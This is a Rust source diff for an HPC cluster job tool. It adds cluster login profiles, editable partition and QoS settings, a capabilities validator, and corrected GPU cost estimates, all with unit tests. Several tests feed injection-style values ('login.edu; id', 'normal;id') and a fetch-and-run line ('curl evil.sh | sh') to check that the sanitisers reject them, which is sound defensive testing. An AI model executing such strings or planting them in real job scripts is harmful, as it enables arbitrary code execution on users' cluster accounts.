@@ -39,6 +39,14 @@ pub struct PartitionSpec {
     pub is_default: bool,
 }
 
+impl PartitionSpec {
+    /// Largest memory request that fits on one node of this partition
+    /// Jobs are submitted with --nodes=1, so this is the hard ceiling for any request
+    pub fn max_memory_per_node_gb(&self) -> f64 {
+        self.max_cores as f64 * self.max_memory_per_core_gb
+    }
+}
+
 // ============================================================================
 // QoS Configuration
 // ============================================================================
@@ -82,6 +90,54 @@ pub struct BillingRates {
     pub gpu_cost_per_gpu_hour: f64,
 }
 
+// ============================================================================
+// Cluster Profiles
+// ============================================================================
+
+/// Named login target for one cluster; users of several clusters keep one per cluster
+/// and switch between them with activate_cluster_profile
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct ClusterProfile {
+    pub name: String,
+    pub login_server: String,
+    #[serde(default = "default_ssh_port")]
+    pub port: u16,
+    /// `module` lines written into job scripts; None keeps the built-in Alpine module loads
+    #[serde(default)]
+    pub module_setup: Option<String>,
+}
+
+fn default_ssh_port() -> u16 {
+    22
+}
+
+impl ClusterProfile {
+    /// Run every field through the security input checks before the profile is stored
+    pub fn sanitized(self) -> anyhow::Result<Self> {
+        use crate::security::input::{sanitize_hostname, sanitize_module_setup, sanitize_profile_name};
+
+        if self.port == 0 {
+            return Err(anyhow::anyhow!("Port must be between 1 and 65535"));
+        }
+        Ok(Self {
+            name: sanitize_profile_name(&self.name)?,
+            login_server: sanitize_hostname(&self.login_server)?,
+            port: self.port,
+            module_setup: match self.module_setup.as_deref() {
+                Some(setup) => sanitize_module_setup(setup)?,
+                None => None,
+            },
+        })
+    }
+}
+
+/// Saved profiles and the name of the active one
+#[derive(Debug, Clone, Serialize)]
+pub struct ClusterProfiles {
+    pub profiles: Vec<ClusterProfile>,
+    pub active_profile: Option<String>,
+}
+
 // ============================================================================
 // Server Interaction Timeouts
 // ============================================================================
@@ -113,7 +169,7 @@ pub mod timeouts {
 // ============================================================================
 
 #[cfg(test)]
-fn load_default_config_for_tests() -> ClusterCapabilities {
+pub(crate) fn load_default_config_for_tests() -> ClusterCapabilities {
     const ALPINE_JSON: &str = include_str!("../cluster/alpine.json");
     serde_json::from_str(ALPINE_JSON).expect("Failed to parse alpine.json")
 }
@@ -181,16 +237,16 @@ pub fn get_cluster_capabilities() -> ClusterCapabilities {
 }
 
 /// Save cluster config to database and update cache
+/// Goes to the active profile's capabilities when a profile is active, else the shared defaults
 pub fn save_cluster_config(config: ClusterCapabilities) -> crate::types::ApiResult<()> {
     use crate::{log_info, log_error};
-    use crate::database::with_database;
 
-    // Save to database
-    match with_database(|db| db.save_cluster_config(&config)) {
+    // Validate, save and refresh the cache
+    match edit_cluster_capabilities(None, |capabilities| {
+        *capabilities = config;
+        Ok(())
+    }) {
         Ok(_) => {
-            // Update cache
-            set_cluster_config_cache(config);
-
             log_info!(
                 category: "ClusterConfig",
                 message: "Cluster config saved successfully",
@@ -215,6 +271,14 @@ pub fn reset_cluster_config() -> crate::types::ApiResult<ClusterCapabilities> {
     use crate::{log_info, log_error};
     use crate::database::with_database;
 
+    // The active profile's edited copy goes too, so it falls back to the defaults
+    if let Some(name) = active_profile_name() {
+        if let Err(e) = with_database(|db| db.delete_profile_capabilities(&name)) {
+            log_error!(category: "ClusterConfig", message: "Failed to clear profile capabilities", details: "{}: {}", name, e);
+            return crate::types::ApiResult::error(format!("Failed to clear cluster config: {}", e));
+        }
+    }
+
     // Delete current config from database
     match with_database(|db| db.delete_cluster_config()) {
         Ok(_) => {},
@@ -266,15 +330,277 @@ pub fn reset_cluster_config() -> crate::types::ApiResult<ClusterCapabilities> {
     }
 }
 
-/// Calculate estimated job cost
-pub fn calculate_job_cost(cores: u32, walltime: String, has_gpu: bool, gpu_count: u32) -> u32 {
+// ============================================================================
+// Cluster Profile Management
+// ============================================================================
+
+/// Settings key holding the active cluster profile's name ("" when none is active)
+pub const ACTIVE_CLUSTER_PROFILE_SETTING: &str = "active_cluster_profile";
+
+fn active_profile_name() -> Option<String> {
+    crate::database::with_database(|db| db.load_setting::<String>(ACTIVE_CLUSTER_PROFILE_SETTING))
+        .ok()
+        .flatten()
+        .filter(|name| !name.is_empty())
+}
+
+/// Profile that connect_to_cluster and job scripts default to; None until one is activated
+pub fn active_cluster_profile() -> Option<ClusterProfile> {
+    let name = active_profile_name()?;
+    crate::database::with_database(|db| db.load_cluster_profile(&name)).ok().flatten()
+}
+
+pub fn list_cluster_profiles() -> anyhow::Result<ClusterProfiles> {
+    let profiles = crate::database::with_database(|db| db.list_cluster_profiles())?;
+    Ok(ClusterProfiles { profiles, active_profile: active_profile_name() })
+}
+
+/// Validate and store a profile, replacing any saved profile with the same name
+pub fn save_cluster_profile(profile: ClusterProfile) -> anyhow::Result<ClusterProfile> {
+    let profile = profile.sanitized()?;
+    crate::database::with_database(|db| db.save_cluster_profile(&profile))?;
+    Ok(profile)
+}
+
+/// Delete a saved profile; the active profile is only deleted with `confirm`, leaving none active
+pub fn delete_cluster_profile(name: &str, confirm: bool) -> anyhow::Result<()> {
+    let is_active = active_profile_name().as_deref() == Some(name);
+    if is_active && !confirm {
+        return Err(anyhow::anyhow!("Profile '{}' is the active profile - confirm to delete it", name));
+    }
+
+    if !crate::database::with_database(|db| db.delete_cluster_profile(name))? {
+        return Err(anyhow::anyhow!("Cluster profile '{}' not found", name));
+    }
+    crate::database::with_database(|db| db.delete_profile_capabilities(name))?;
+    if is_active {
+        crate::database::with_database(|db| db.save_setting(ACTIVE_CLUSTER_PROFILE_SETTING, &""))?;
+        refresh_cluster_config_cache()?;
+    }
+    Ok(())
+}
+
+/// Make a saved profile the default for new connections and job scripts
+pub fn set_active_profile(name: &str) -> anyhow::Result<ClusterProfile> {
+    let profile = crate::database::with_database(|db| db.load_cluster_profile(name))?
+        .ok_or_else(|| anyhow::anyhow!("Cluster profile '{}' not found", name))?;
+    crate::database::with_database(|db| db.save_setting(ACTIVE_CLUSTER_PROFILE_SETTING, &profile.name))?;
+    refresh_cluster_config_cache()?;
+    Ok(profile)
+}
+
+// ============================================================================
+// Editable Capabilities
+// ============================================================================
+// Each profile can carry its own edited copy of the capabilities (partitions, QoS,
+// billing), seeded from the shared defaults (alpine.json) on first edit
+
+/// Capabilities for the active profile: its own edited copy, else the shared defaults
+pub fn load_active_capabilities() -> anyhow::Result<Option<ClusterCapabilities>> {
+    if let Some(name) = active_profile_name() {
+        if let Some(capabilities) = crate::database::with_database(|db| db.load_profile_capabilities(&name))? {
+            return Ok(Some(capabilities));
+        }
+    }
+    crate::database::with_database(|db| db.load_cluster_config())
+}
+
+/// Reload the active capabilities into the cache used by validation and cost estimates
+pub fn refresh_cluster_config_cache() -> anyhow::Result<ClusterCapabilities> {
+    let capabilities = load_active_capabilities()?
+        .ok_or_else(|| anyhow::anyhow!("Cluster configuration not found in database"))?;
+    set_cluster_config_cache(capabilities.clone());
+    Ok(capabilities)
+}
+
+/// Capabilities a profile edits (None = the active profile, or the shared defaults when no
+/// profile is active), with the profile they belong to; a profile's first edit starts from the defaults
+pub fn load_editable_capabilities(profile_name: Option<&str>) -> anyhow::Result<(Option<String>, ClusterCapabilities)> {
+    use crate::database::with_database;
+
+    let profile_name = match profile_name {
+        Some(name) => {
+            with_database(|db| db.load_cluster_profile(name))?
+                .ok_or_else(|| anyhow::anyhow!("Cluster profile '{}' not found", name))?;
+            Some(name.to_string())
+        }
+        None => active_profile_name(),
+    };
+
+    let stored = match profile_name.as_deref() {
+        Some(name) => with_database(|db| db.load_profile_capabilities(name))?,
+        None => None,
+    };
+    let capabilities = match stored {
+        Some(capabilities) => capabilities,
+        None => with_database(|db| db.load_cluster_config())?
+            .ok_or_else(|| anyhow::anyhow!("Cluster configuration not found in database"))?,
+    };
+    Ok((profile_name, capabilities))
+}
+
+/// Load, change, validate and save one profile's capabilities (see `load_editable_capabilities`),
+/// then refresh the cache
+pub fn edit_cluster_capabilities(
+    profile_name: Option<&str>,
+    edit: impl FnOnce(&mut ClusterCapabilities) -> anyhow::Result<()>,
+) -> anyhow::Result<ClusterCapabilities> {
+    use crate::database::with_database;
+
+    let (profile_name, mut capabilities) = load_editable_capabilities(profile_name)?;
+
+    edit(&mut capabilities)?;
+    validate_capabilities(&capabilities)?;
+
+    match profile_name.as_deref() {
+        Some(name) => with_database(|db| db.save_profile_capabilities(name, &capabilities))?,
+        None => with_database(|db| db.save_cluster_config(&capabilities))?,
+    }
+    refresh_cluster_config_cache()?;
+    Ok(capabilities)
+}
+
+/// Add a partition, or replace the one with the same name
+pub fn upsert_partition(capabilities: &mut ClusterCapabilities, partition: PartitionSpec) {
+    match capabilities.partitions.iter_mut().find(|existing| existing.name == partition.name) {
+        Some(existing) => *existing = partition,
+        None => capabilities.partitions.push(partition),
+    }
+}
+
+/// Remove a partition along with everything that only existed for it: it is dropped from
+/// each QoS's partition list, QoS left with no partitions go too, and presets using it are removed
+pub fn remove_partition(capabilities: &mut ClusterCapabilities, name: &str) -> anyhow::Result<()> {
+    let before = capabilities.partitions.len();
+    capabilities.partitions.retain(|partition| partition.name != name);
+    if capabilities.partitions.len() == before {
+        return Err(anyhow::anyhow!("Partition '{}' not found", name));
+    }
+
+    for qos in &mut capabilities.qos_options {
+        qos.valid_partitions.retain(|partition| partition != name);
+    }
+    capabilities.qos_options.retain(|qos| !qos.valid_partitions.is_empty());
+    let qos_names: Vec<String> = capabilities.qos_options.iter().map(|qos| qos.name.clone()).collect();
+    capabilities.job_presets.retain(|preset| preset.partition != name && qos_names.contains(&preset.qos));
+    Ok(())
+}
+
+/// Add a QoS option, or replace the one with the same name
+pub fn upsert_qos(capabilities: &mut ClusterCapabilities, qos: QosSpec) {
+    match capabilities.qos_options.iter_mut().find(|existing| existing.name == qos.name) {
+        Some(existing) => *existing = qos,
+        None => capabilities.qos_options.push(qos),
+    }
+}
+
+/// Remove a QoS option and the presets that use it
+pub fn remove_qos(capabilities: &mut ClusterCapabilities, name: &str) -> anyhow::Result<()> {
+    let before = capabilities.qos_options.len();
+    capabilities.qos_options.retain(|qos| qos.name != name);
+    if capabilities.qos_options.len() == before {
+        return Err(anyhow::anyhow!("QoS '{}' not found", name));
+    }
+    capabilities.job_presets.retain(|preset| preset.qos != name);
+    Ok(())
+}
+
+/// Check an edited capabilities set hangs together before it is saved
+///
+/// Names are unique and safe to put in sbatch directives, billing rates are non-negative,
+/// every QoS names only defined partitions, every partition is usable with at least one
+/// QoS, and presets reference a defined partition and a QoS valid for it.
+pub fn validate_capabilities(capabilities: &ClusterCapabilities) -> anyhow::Result<()> {
+    use anyhow::anyhow;
+    let is_safe_name = |name: &str| !name.is_empty() && name.len() <= 64
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
+
+    let billing = &capabilities.billing_rates;
+    for (label, rate) in [("CPU", billing.cpu_cost_per_core_hour), ("GPU", billing.gpu_cost_per_gpu_hour)] {
+        if !rate.is_finite() || rate < 0.0 {
+            return Err(anyhow!("{} billing rate must be a non-negative number", label));
+        }
+    }
+
+    let mut partition_names = std::collections::HashSet::new();
+    for partition in &capabilities.partitions {
+        if !is_safe_name(&partition.name) {
+            return Err(anyhow!("Partition name '{}' is invalid (letters, digits, '_' and '-' only)", partition.name));
+        }
+        if !partition_names.insert(partition.name.as_str()) {
+            return Err(anyhow!("Partition '{}' is defined more than once", partition.name));
+        }
+        if partition.max_cores == 0 || !partition.max_memory_per_core_gb.is_finite() || partition.max_memory_per_core_gb <= 0.0 {
+            return Err(anyhow!("Partition '{}' needs positive max cores and memory per core", partition.name));
+        }
+    }
+    if partition_names.is_empty() {
+        return Err(anyhow!("At least one partition is required"));
+    }
+
+    let mut qos_names = std::collections::HashSet::new();
+    for qos in &capabilities.qos_options {
+        if !is_safe_name(&qos.name) {
+            return Err(anyhow!("QoS name '{}' is invalid (letters, digits, '_' and '-' only)", qos.name));
+        }
+        if !qos_names.insert(qos.name.as_str()) {
+            return Err(anyhow!("QoS '{}' is defined more than once", qos.name));
+        }
+        if let Some(unknown) = qos.valid_partitions.iter().find(|partition| !partition_names.contains(partition.as_str())) {
+            return Err(anyhow!("QoS '{}' refers to unknown partition '{}'", qos.name, unknown));
+        }
+    }
+
+    for partition in &capabilities.partitions {
+        if !capabilities.qos_options.iter().any(|qos| qos.valid_partitions.contains(&partition.name)) {
+            return Err(anyhow!("Partition '{}' has no QoS - add it to a QoS's valid partitions", partition.name));
+        }
+    }
+
+    for preset in &capabilities.job_presets {
+        let valid = capabilities.qos_options.iter()
+            .any(|qos| qos.name == preset.qos && qos.valid_partitions.contains(&preset.partition));
+        if !valid {
+            return Err(anyhow!("Preset '{}' uses QoS '{}', which is not valid on partition '{}'", preset.name, preset.qos, preset.partition));
+        }
+    }
+
+    Ok(())
+}
+
+/// Host and port to dial: an explicit host wins, otherwise the active profile's login server
+/// The profile's port applies whenever its login server is the target and no port was given
+pub fn resolve_login_target(host: &str, port: Option<u16>, profile: Option<&ClusterProfile>) -> anyhow::Result<(String, u16)> {
+    let host = match (host.trim(), profile) {
+        ("", Some(profile)) => profile.login_server.clone(),
+        ("", None) => return Err(anyhow::anyhow!("No host given and no cluster profile is active")),
+        (host, _) => host.to_string(),
+    };
+    let port = port.unwrap_or_else(|| match profile {
+        Some(profile) if profile.login_server.eq_ignore_ascii_case(&host) => profile.port,
+        _ => default_ssh_port(),
+    });
+    Ok((host, port))
+}
+
+/// Calculate estimated job cost; GPU hours are billed only for the GPUs actually requested
+pub fn calculate_job_cost(cores: u32, walltime: String, gpus: u32) -> u32 {
     // Parse walltime string to hours
     let walltime_hours = match parse_walltime_to_hours(&walltime) {
         Ok(hours) => hours,
         Err(_) => return 0, // Return 0 cost if walltime is invalid
     };
 
-    // Get billing rates from cached config
+    billed_units(cores, walltime_hours, gpus).round() as u32
+}
+
+/// Calculate the SUs a finished job actually used from its elapsed walltime (sacct Elapsed)
+pub fn calculate_actual_cost(cores: u32, elapsed_seconds: u64, gpus: u32) -> f64 {
+    billed_units(cores, elapsed_seconds as f64 / 3600.0, gpus)
+}
+
+/// SUs for `hours` of cores and GPUs at the cached billing rates
+fn billed_units(cores: u32, hours: f64, gpus: u32) -> f64 {
     let billing = {
         let cache = CLUSTER_CONFIG_CACHE.read().unwrap();
         cache.as_ref()
@@ -282,13 +608,9 @@ pub fn calculate_job_cost(cores: u32, walltime: String, has_gpu: bool, gpu_count
             .expect("Cluster config not initialized")
     };
 
-    let core_cost = cores as f64 * walltime_hours * billing.cpu_cost_per_core_hour;
-    let gpu_cost = if has_gpu {
-        gpu_count as f64 * walltime_hours * billing.gpu_cost_per_gpu_hour
-    } else {
-        0.0
-    };
-    (core_cost + gpu_cost).round() as u32
+    let core_cost = cores as f64 * hours * billing.cpu_cost_per_core_hour;
+    let gpu_cost = gpus as f64 * hours * billing.gpu_cost_per_gpu_hour;
+    core_cost + gpu_cost
 }
 
 /// Helper function to parse walltime string (HH:MM:SS) to hours
@@ -346,25 +668,31 @@ pub fn estimate_queue_time(cores: u32, partition_id: String) -> String {
     }.to_string()
 }
 
+/// Pick the QoS with the tightest walltime cap that still covers the request
+///
+/// `options` should already be limited to the partition's QoS list. QoS with a
+/// memory floor above `memory_gb` are skipped. Ties go to the default QoS.
+pub fn qos_for_walltime(options: &[QosSpec], walltime_hours: f64, memory_gb: f64) -> Option<&QosSpec> {
+    options.iter()
+        .filter(|qos| qos.max_walltime_hours as f64 >= walltime_hours)
+        .filter(|qos| qos.min_memory_gb.is_none_or(|min| memory_gb >= min as f64))
+        .min_by_key(|qos| (qos.max_walltime_hours, !qos.is_default))
+}
+
 /// Suggest optimal QOS based on walltime and partition
+/// The shortest QoS on the partition that covers the walltime (memory minimums aren't known here);
+/// when none is long enough, the partition's longest QoS
 pub fn suggest_qos(walltime_hours: f64, partition_id: String) -> String {
-    let partition_id = partition_id.as_str();
-    if partition_id == "amem" {
-        "mem".to_string()
-    } else if partition_id.starts_with("atesting") {
-        "testing".to_string()
-    } else if partition_id == "acompile" {
-        "compile".to_string()
-    } else if walltime_hours > 24.0 {
-        let available_qos = get_qos_for_partition(partition_id);
-        if available_qos.iter().any(|q| q.name == "long") {
-            "long".to_string()
-        } else {
-            "normal".to_string()
-        }
-    } else {
-        "normal".to_string()
-    }
+    suggest_qos_from(&get_qos_for_partition(&partition_id), walltime_hours)
+        .map(|qos| qos.name.clone())
+        .unwrap_or_else(|| "normal".to_string())
+}
+
+fn suggest_qos_from(options: &[QosSpec], walltime_hours: f64) -> Option<&QosSpec> {
+    options.iter()
+        .filter(|qos| qos.max_walltime_hours as f64 >= walltime_hours)
+        .min_by_key(|qos| (qos.max_walltime_hours, !qos.is_default))
+        .or_else(|| options.iter().max_by_key(|qos| qos.max_walltime_hours))
 }
 
 
@@ -442,11 +770,66 @@ mod tests {
         set_cluster_config_cache(load_default_config_for_tests());
 
         // CPU only: 24 cores * 4 hours = 96 SU
-        assert_eq!(calculate_job_cost(24, "04:00:00".to_string(), false, 0), 96);
+        assert_eq!(calculate_job_cost(24, "04:00:00".to_string(), 0), 96);
 
         // With GPU: (64 cores * 24 hours) + (1 GPU * 24 hours * 108.2) = 1536 + 2596.8 = 4133
-        let cost = calculate_job_cost(64, "24:00:00".to_string(), true, 1);
+        let cost = calculate_job_cost(64, "24:00:00".to_string(), 1);
         assert!((4130..=4140).contains(&cost));
+
+        // Billed per GPU requested
+        let cost = calculate_job_cost(64, "24:00:00".to_string(), 2);
+        assert!((6725..=6735).contains(&cost));
+    }
+
+    #[test]
+    fn test_calculate_actual_cost() {
+        set_cluster_config_cache(load_default_config_for_tests());
+
+        // 24 cores for 90 minutes of a 4-hour request = 36 SU, not the 96 SU estimate
+        assert!((calculate_actual_cost(24, 5400, 0) - 36.0).abs() < 1e-9);
+        assert_eq!(calculate_actual_cost(24, 0, 0), 0.0);
+
+        // GPU hours billed on elapsed time too, matching the estimate for the full walltime
+        let full = calculate_actual_cost(64, 24 * 3600, 1);
+        assert_eq!(full.round() as u32, calculate_job_cost(64, "24:00:00".to_string(), 1));
+    }
+
+    #[test]
+    fn test_cluster_profile_sanitized() {
+        let profile = ClusterProfile {
+            name: " summit ".to_string(),
+            login_server: "login.summit.example.edu".to_string(),
+            port: 2222,
+            module_setup: Some("module load namd/3.0\n\n".to_string()),
+        };
+        let profile = profile.sanitized().unwrap();
+        assert_eq!(profile.name, "summit");
+        assert_eq!(profile.module_setup.as_deref(), Some("module load namd/3.0"));
+
+        let bad_host = ClusterProfile { login_server: "login.edu; id".to_string(), ..profile.clone() };
+        assert!(bad_host.sanitized().is_err());
+        let bad_port = ClusterProfile { port: 0, ..profile.clone() };
+        assert!(bad_port.sanitized().is_err());
+        let bad_modules = ClusterProfile { module_setup: Some("curl evil.sh | sh".to_string()), ..profile };
+        assert!(bad_modules.sanitized().is_err());
+    }
+
+    #[test]
+    fn test_resolve_login_target() {
+        let profile = ClusterProfile {
+            name: "summit".to_string(),
+            login_server: "login.summit.example.edu".to_string(),
+            port: 2222,
+            module_setup: None,
+        };
+
+        // Blank host falls back to the active profile, with its port
+        assert_eq!(resolve_login_target("", None, Some(&profile)).unwrap(), ("login.summit.example.edu".to_string(), 2222));
+        assert_eq!(resolve_login_target("LOGIN.summit.example.edu", None, Some(&profile)).unwrap().1, 2222);
+        // A different host doesn't inherit the profile's port; an explicit port always wins
+        assert_eq!(resolve_login_target("login.rc.colorado.edu", None, Some(&profile)).unwrap(), ("login.rc.colorado.edu".to_string(), 22));
+        assert_eq!(resolve_login_target("", Some(2200), Some(&profile)).unwrap().1, 2200);
+        assert!(resolve_login_target(" ", None, None).is_err());
     }
 
     #[test]
@@ -458,6 +841,47 @@ mod tests {
         assert_eq!(estimate_queue_time(8, "atesting".to_string()), "< 15 minutes");
     }
 
+    fn qos(name: &str, max_walltime_hours: u32, min_memory_gb: Option<u32>, is_default: bool) -> QosSpec {
+        QosSpec {
+            name: name.to_string(),
+            title: name.to_string(),
+            description: String::new(),
+            max_walltime_hours,
+            valid_partitions: vec!["amilan".to_string()],
+            min_memory_gb,
+            is_default,
+        }
+    }
+
+    #[test]
+    fn test_qos_for_walltime_prefers_tightest_cap() {
+        let options = vec![
+            qos("long", 168, None, false),
+            qos("normal", 24, None, true),
+            qos("medium", 72, None, false),
+        ];
+
+        assert_eq!(qos_for_walltime(&options, 12.0, 16.0).unwrap().name, "normal");
+        assert_eq!(qos_for_walltime(&options, 24.0, 16.0).unwrap().name, "normal");
+        assert_eq!(qos_for_walltime(&options, 48.0, 16.0).unwrap().name, "medium");
+        assert_eq!(qos_for_walltime(&options, 100.0, 16.0).unwrap().name, "long");
+        assert!(qos_for_walltime(&options, 200.0, 16.0).is_none());
+    }
+
+    #[test]
+    fn test_qos_for_walltime_respects_memory_floor_and_default() {
+        let options = vec![
+            qos("mem", 168, Some(256), false),
+            qos("alt", 168, None, false),
+            qos("standard", 168, None, true),
+        ];
+
+        // Same cap: the default wins, and the memory-gated QoS needs enough memory
+        assert_eq!(qos_for_walltime(&options, 48.0, 64.0).unwrap().name, "standard");
+        assert_eq!(qos_for_walltime(&options[..1], 48.0, 512.0).unwrap().name, "mem");
+        assert!(qos_for_walltime(&options[..1], 48.0, 64.0).is_none());
+    }
+
     #[test]
     fn test_suggest_qos() {
         // Setup: populate cache with test data
@@ -470,4 +894,80 @@ mod tests {
         assert_eq!(suggest_qos(4.0, "acompile".to_string()), "compile");
     }
 
+    #[test]
+    fn test_alpine_defaults_validate() {
+        validate_capabilities(&load_default_config_for_tests()).unwrap();
+    }
+
+    #[test]
+    fn test_validate_capabilities_rejects_bad_edits() {
+        let mut negative_rate = load_default_config_for_tests();
+        negative_rate.billing_rates.gpu_cost_per_gpu_hour = -1.0;
+        assert!(validate_capabilities(&negative_rate).unwrap_err().to_string().contains("GPU billing rate"));
+
+        let mut unknown_partition = load_default_config_for_tests();
+        unknown_partition.qos_options[0].valid_partitions.push("amilan256c".to_string());
+        assert!(validate_capabilities(&unknown_partition).unwrap_err().to_string().contains("unknown partition 'amilan256c'"));
+
+        // A new partition has to be added to some QoS before it can be used
+        let mut orphan = load_default_config_for_tests();
+        let mut partition = orphan.partitions[0].clone();
+        partition.name = "amilan256c".to_string();
+        upsert_partition(&mut orphan, partition);
+        assert!(validate_capabilities(&orphan).unwrap_err().to_string().contains("'amilan256c' has no QoS"));
+
+        let mut unsafe_name = load_default_config_for_tests();
+        unsafe_name.qos_options[0].name = "normal;id".to_string();
+        assert!(validate_capabilities(&unsafe_name).is_err());
+    }
+
+    #[test]
+    fn test_capability_edits() {
+        let mut capabilities = load_default_config_for_tests();
+
+        // New partition plus a QoS that allows it
+        let mut partition = capabilities.partitions[0].clone();
+        partition.name = "amilan256c".to_string();
+        upsert_partition(&mut capabilities, partition);
+        let mut qos = capabilities.qos_options[0].clone();
+        qos.valid_partitions.push("amilan256c".to_string());
+        upsert_qos(&mut capabilities, qos);
+        validate_capabilities(&capabilities).unwrap();
+
+        // Removing a partition strips it from QoS lists and drops QoS that only served it
+        remove_partition(&mut capabilities, "amem").unwrap();
+        assert!(!capabilities.qos_options.iter().any(|qos| qos.name == "mem"));
+        validate_capabilities(&capabilities).unwrap();
+        assert!(remove_partition(&mut capabilities, "amem").is_err());
+
+        // Removing a QoS drops the presets using it; normal still covers long's partitions
+        remove_qos(&mut capabilities, "long").unwrap();
+        assert!(!capabilities.job_presets.iter().any(|preset| preset.qos == "long"));
+        assert!(validate_capabilities(&capabilities).is_ok());
+
+        remove_qos(&mut capabilities, "normal").unwrap();
+        assert!(validate_capabilities(&capabilities).unwrap_err().to_string().contains("has no QoS"));
+    }
+
+    #[test]
+    fn test_suggest_qos_uses_edited_capabilities() {
+        let mut capabilities = load_default_config_for_tests();
+        upsert_qos(&mut capabilities, QosSpec {
+            name: "short".to_string(),
+            title: "Short".to_string(),
+            description: "Up to 4 hours".to_string(),
+            max_walltime_hours: 4,
+            valid_partitions: vec!["amilan".to_string()],
+            min_memory_gb: None,
+            is_default: false,
+        });
+        let amilan: Vec<QosSpec> = capabilities.qos_options.into_iter()
+            .filter(|qos| qos.valid_partitions.iter().any(|partition| partition == "amilan"))
+            .collect();
+
+        assert_eq!(suggest_qos_from(&amilan, 2.0).unwrap().name, "short");
+        assert_eq!(suggest_qos_from(&amilan, 12.0).unwrap().name, "normal");
+        assert_eq!(suggest_qos_from(&amilan, 500.0).unwrap().name, "long");
+    }
+
 }